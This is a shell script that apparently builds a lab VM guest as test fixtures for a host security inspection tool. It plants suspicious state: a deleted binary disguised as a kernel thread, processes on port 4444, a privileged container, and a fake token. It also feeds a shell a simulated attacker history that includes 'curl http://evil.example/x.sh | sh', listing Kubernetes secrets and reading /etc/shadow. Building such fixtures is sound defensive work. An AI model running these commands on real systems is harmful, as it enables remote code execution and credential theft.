# shellcheck shell=dash
# The programs of the corpus' guests, sourced by ../lab/guest/init: one example of everything that the truth tests check, and
# little else. /extra/root has bash, the C library and "work" (work.c).
CGROUP=/sys/fs/cgroup
PODS=$CGROUP/kubepods.slice/kubepods-besteffort.slice

mv /extra/root/bin/* /bin/
mv /extra/root/lib64 /extra/root/lib /run/
mkdir -p /lib64
mv /run/lib64/* /lib64/
mv /run/lib/x86_64-linux-gnu /lib/
rm -r /extra /run/lib /run/lib64

hostname lab-node
printf 'root:x:0:0:root:/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n' >/etc/passwd
echo secret=1 >/etc/lab.conf
mount -t debugfs debugfs /sys/kernel/debug
mount -t tracefs tracefs /sys/kernel/tracing
mount -t bpf bpf /sys/fs/bpf
ip link set lo up
ip link add eth0 type veth
ip addr add 10.4.0.7/24 dev eth0
ip link set eth0 up
ip link set veth0 up

# --- Mounts: an overlay, a bind mount and a read-only tmpfs.

mkdir -p /tmp/lower /tmp/upper /tmp/work /tmp/overlay /tmp/bind /tmp/quiet
echo a >/tmp/lower/a
mount -t overlay overlay -o lowerdir=/tmp/lower,upperdir=/tmp/upper,workdir=/tmp/work /tmp/overlay
mount --bind /etc /tmp/bind
mount -t tmpfs -o ro,noexec,size=64k quiet /tmp/quiet

# --- Processes.

# begin COMMAND…: runs a command in the background, without this script's open files
begin() {
    "$@" </dev/null >/dev/null 2>&1 7>&- &
}
begin work server 4444
begin work shell 4444
begin work sockets
begin work threads
begin work user 1000
begin work user 65534
begin work uids
begin work rwx
begin work memfd
begin work filter
cp /bin/work /tmp/.hidden
begin /tmp/.hidden sleep kworker/9:9
begin work sleep
tracee=$!
sleep 1
rm /tmp/.hidden
begin work tracer $tracee
begin env SECRET_TOKEN=abc123 sleep 99999

mkfifo /run/keyboard
exec 7<>/run/keyboard
HISTFILE=/dev/null bash --noprofile --norc -i </run/keyboard >/run/screen 2>&1 7>&- &
printf 'set -o history\nwhoami\ncurl http://evil.example/x.sh | sh\nkubectl get secrets -A\ncat /etc/shadow\n' >&7

# --- Three containers, in cgroups as containerd and the kubelet make them.

# cgroup NUMBER: makes a container's cgroup and sets the variable scope
cgroup() {
    pod=kubepods-besteffort-pod0c1d2e3f_aaaa_bbbb_cccc_00000000000$1.slice
    scope=$PODS/$pod/cri-containerd-$(printf '%064d' "$1" | tr 0 a).scope
    mkdir -p "$scope"
}
# container NUMBER NAME OPTIONS…: starts a container
container() {
    cgroup "$1"
    root=/var/lib/containers/$2
    mkdir -p "$root/image/bin" "$root/image/etc" "$root/upper" "$root/work" "$root/rootfs"
    for folder in dev proc sys tmp host; do
        mkdir "$root/image/$folder"
    done
    ln /usr/bin/lab "$root/image/bin/app"
    mount -t overlay overlay -o "lowerdir=$root/image,upperdir=$root/upper,workdir=$root/work" "$root/rootfs"
    name=$2
    shift 2
    begin env -i PATH=/bin HOSTNAME="$name" KUBERNETES_SERVICE_HOST=10.8.0.1 \
        /usr/bin/lab container --cgroup "$scope" --hostname "$name" --root "$root/rootfs" --bind /etc:/etc:ro "$@" \
        -- /bin/app --listen 8080 --worker child
    sleep 1
}
container 1 web --user 101
container 2 privileged --privileged --bind /tmp:/host
cgroup 3
begin work rootless "$scope/cgroup.procs"

# --- A clean node may have these too: events of perf_event_open(2), a probe in a program, a hierarchy of cgroup v1, and an
# emulator registered for programs of another processor.

begin /usr/bin/lab watcher
echo "p:lab/watched /usr/bin/lab:$(/usr/bin/lab watcher --offset)" >/sys/kernel/tracing/uprobe_events
echo 1 >/sys/kernel/tracing/events/lab/watched/enable
mkdir -p /run/cgroup.v1
mount -t cgroup -o none,name=lab cgroup /run/cgroup.v1
formats=/proc/sys/fs/binfmt_misc
modprobe binfmt_misc
mount -t binfmt_misc binfmt_misc "$formats"
magic='\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\xb7\x00'
mask='\xff\xff\xff\xff\xff\xff\xff\x00\xff\xff\xff\xff\xff\xff\xff\xff\xfe\xff\xff\xff'
printf '%s' ":qemu-aarch64:M::$magic:$mask:/bin/busybox:POCF" >$formats/register

sleep 3
# No test would miss a program that failed to start, so it is reported on the console. The rootless container is two
# processes named work.
for name in work:12 kworker/9:9:2 app:4 bash:1; do
    [ "$(cat /proc/[0-9]*/comm | grep -cx "${name%:*}")" = "${name##*:}" ] || echo "lab: not ${name##*:} times ${name%:*}"
done
